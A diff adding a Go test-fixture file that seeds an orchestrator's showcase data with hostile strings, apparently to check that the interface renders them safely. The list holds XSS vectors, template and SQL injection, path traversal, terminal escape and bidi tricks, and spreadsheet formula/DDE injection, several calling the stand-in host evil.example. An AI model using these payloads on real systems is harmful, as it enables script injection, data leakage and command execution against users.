@@ -1,0 +1,150 @@
+package showcase
+
+import (
+	"context"
+	"strings"
+	"time"
+
+	"github.com/rocketgpt/orchestrator/contract"
+	"github.com/rocketgpt/orchestrator/internal/store"
+)
+
+// XSSHook is what the hostile texts set in a page that lets them run:
+// window.__xss. A page that they reach otherwise asks for something of
+// HostileHost.
+const XSSHook = "__xss"
+
+// HostileHost is the site that hostile texts want to reach.
+const HostileHost = "evil.example"
+
+// HostileTexts are texts that try to become more than text: markup, attributes,
+// addresses, templates, and characters that terminals and readers obey.
+func HostileTexts() []string {
+	return []string{
+		`<script>window.__xss='script'</script>`,
+		`"><img src=x onerror="window.__xss='img'">`,
+		`'><svg/onload=window.__xss='svg'>`,
+		`</script><script>window.__xss='end of script'</script>`,
+		`</textarea></title></style></noscript><img src=x onerror=window.__xss='end of raw text'>`,
+		`javascript:window.__xss='url'`,
+		" java\tscript:window.__xss='split url'",
+		`<a href="javascript:window.__xss='link'" autofocus onfocus="window.__xss='focus'">click</a>`,
+		`" onmouseover="window.__xss='over'" onfocus="window.__xss='focus'" autofocus tabindex="0" x="`,
+		`' onclick='window.__xss="click"' style='position:fixed;inset:0;z-index:99999' x='`,
+		"` onload=`window.__xss='backtick'`",
+		`<iframe srcdoc="<script>parent.window.__xss='frame'</script>"></iframe>`,
+		`<details open ontoggle="window.__xss='toggle'"><summary>x</summary></details>`,
+		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss='mutation'&gt;">`,
+		`{{constructor.constructor("window.__xss='template'")()}} ${window.__xss='literal'} #{7*7} <%= 7*7 %> {%raw%}`,
+		`<!-- <!--> --> ]]> <![CDATA[ <?php echo 1 ?> `,
+		`&lt;script&gt;window.__xss='escaped'&lt;/script&gt; &amp;lt;b&amp;gt; &#60;img src=x onerror=window.__xss='entity'&#62;`,
+		`\u003cscript\u003ewindow.__xss='json'\u003c/script\u003e \x3cimg src=x onerror=window.__xss='hex'\x3e`,
+		`{"a":"</script><script>window.__xss='json end'</script>","__proto__":{"polluted":true}}`,
+		`<img src="http://evil.example/pixel.png"><link rel=stylesheet href=//evil.example/x.css><base href="//evil.example/">`,
+		`<meta http-equiv="refresh" content="0;url=//evil.example/"><form action=//evil.example><input name=q autofocus></form>`,
+		`<style>*{display:none!important;background:url(//evil.example/css)}</style>`,
+		`data:text/html,<script>window.opener.__xss='data'</script>`,
+		"\x1b[31mred\x1b[0m \x1b]8;;javascript:window.__xss='osc'\x07link\x1b]8;;\x07 \x1b[2J\x1b]0;title\x07",
+		"bell\x07 back\x08\x08space cr\rover vt\x0b ff\x0c esc\x1b del\x7f c1\u0085\u009b31m",
+		"invoice\u202efdp.exe \u2066isolate \u200bzero\u200dwidth \ufeffbom \u2028line\u2029paragraph",
+		"line one\nline two\r\nline three\tand a tab\n\n\n# heading\n- [link](javascript:window.__xss='markdown') ![x](//evil.example/md.png)",
+		strings.Repeat("Z\u0351\u036b\u0343\u0300", 40) + " \U000e0041\U000e0042",
+		`'; DROP TABLE orchestrator_runs; -- %00 %s %n ../../../../etc/passwd`,
+		`=HYPERLINK("http://evil.example/"&A1,"x") | @SUM(1+1)*cmd|' /C calc'!A0`,
+	}
+}
+
+// hostile tells a run for each hostile text, which stands wherever a text of a
+// model, a repository, a test or a person can stand, and one with all of them.
+func (f *filler) hostile(ctx context.Context) error {
+	texts := HostileTexts()
+	for i, text := range append(texts, strings.Join(texts, "\n")) {
+		if err := f.attack(ctx, int64(i+1), text); err != nil {
+			return err
+		}
+	}
+	for i, text := range texts {
+		agent := store.Agent{Name: text, Type: "builder", Version: text, HealthStatus: text}
+		if i%2 == 0 {
+			agent.HealthStatus = "healthy"
+		}
+		if err := f.store.Heartbeat(ctx, agent); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// attack tells one run that went through everything, in words of the text.
+func (f *filler) attack(ctx context.Context, number int64, text string) error {
+	name := "src/" + text + "/" + text + ".go"
+	model := contract.ModelChoice{Provider: "ollama", Model: text}
+	t := f.begin(ctx, telling{
+		project: text, goal: text, description: text + "\n" + text, at: f.now.Add(-time.Duration(40-number) * time.Hour),
+		models: map[contract.Agent]contract.ModelChoice{contract.AgentBuilder: model, contract.AgentRepair: model, contract.AgentPlanner: model},
+		settings: func(s *contract.Settings) {
+			s.Repo.URL, s.Repo.Branch, s.Release.Branch, s.Release.Remote = cut(text, 500), text, cut(text, 500), text
+			s.Release.Stay, s.Release.MaxRepairs = day, 3
+		},
+	})
+	plan := planOf(text, 0.5,
+		part{name: text, text: text, files: []string{name}}, part{name: text, text: text, files: []string{name, text}, after: []int{1}, risk: contract.LevelHigh})
+	for i := range plan.Steps {
+		plan.Steps[i].VerificationCriteria = []string{text}
+	}
+	said := turn{say: text, in: 1000, out: 100, took: time.Second, calls: []use{
+		{name: "run_command", args: map[string]any{"command": text, text: text}, result: text, took: time.Second, wrong: contract.CodeCommandCrashed},
+		{name: text, args: map[string]any{"path": text}, result: text},
+	}}
+	repair := mending{
+		action: contract.HealRepair, cause: text, message: text, step: "step-002", by: text, took: time.Second, turns: []turn{said},
+		before: map[string]any{"text": text, text: text}, after: map[string]any{"text": text, text: text},
+		patch: "diff --git a/" + oneLine(text) + " b/" + oneLine(text) + "\n--- a/" + oneLine(text) + "\n+++ b/" + oneLine(text) + "\n@@ -1,1 +1,1 @@ " + oneLine(text) + "\n-" + oneLine(text) + "\n+" + oneLine(text) + " again\n",
+	}
+	suite := inspection{
+		check: contract.Check{ID: "test-go", Category: contract.CategoryTest, Name: text}, took: time.Second, red: true, message: text, log: text + "\n" + text + "\n",
+		cases: []contract.TestCase{{Name: text, Status: contract.TestFailed, Message: text, Location: text}, {Name: text + " two", Status: contract.TestFlaky, Message: text}},
+		findings: []contract.Finding{
+			{Severity: contract.SeverityMajor, Category: contract.CategoryTest, Message: text, Location: text, Rule: text},
+			{Severity: contract.SeverityMinor, Category: contract.CategoryLint, Message: text, Location: name + ":1", Rule: text},
+		},
+		files: []file{{text + ".png", contract.ArtifactScreenshot, screenshot}, {text + ".svg", contract.ArtifactScreenshot, []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss='svg file'"><script>window.__xss='svg script'</script></svg>`)}, {text + ".html", contract.ArtifactFile, []byte(`<script>window.__xss='html file'</script>`)}, {text, contract.ArtifactJSON, []byte(jsonOf(map[string]string{text: text}))}},
+	}
+	t.plans(plan, 5*time.Second)
+	t.asks("plan", day)
+	t.phase = contract.PhasePlanner
+	t.answers("plan", text, text, true)
+	t.starts(contract.PhaseBuilder)
+	t.switches(contract.AgentBuilder, model, text)
+	failure := fail(contract.ClassRuntime, contract.CodeCommandCrashed, text, text)
+	t.builds([]labour{{step: "step-001", turns: []turn{said, said}}, {step: "step-002", turns: []turn{said}, failure: failure}})
+	t.fails(contract.PhaseBuilder, failure)
+	t.mends(repair)
+	t.starts(contract.PhaseBuilder)
+	t.builds([]labour{{step: "step-002", turns: []turn{said}}})
+	t.built(repair.patch)
+	t.starts(contract.PhaseTester)
+	t.tested(t.checks(suite))
+	t.mends(repair)
+	t.starts(contract.PhaseTester)
+	suite.red = false
+	t.tested(t.checks(suite))
+	switch number % 4 {
+	case 0: // waits for a person, in the words of the text
+		t.asks("release", day)
+	case 1:
+		t.needsHelp(contract.InterventionHelp, text, text, day)
+	case 2:
+		t.pauses(text, text)
+	default:
+		t.releases(repair.patch)
+		t.stays(2 * day)
+		t.receives(contract.CheckMessage{ID: objectID(text), Kind: contract.CheckComment, Name: cut(oneLine(text), 150), Summary: text, Details: text, URL: text, By: cut(oneLine(text), 150)})
+		t.ends(fail(contract.ClassAssertion, contract.CodeCheckFailed, text, text))
+	}
+	return t.told()
+}
+
+func oneLine(s string) string { return strings.NewReplacer("\n", " ", "\r", " ").Replace(s) }
+
+func cut(s string, most int) string { return strings.ToValidUTF8(s[:min(len(s), most)], "") }
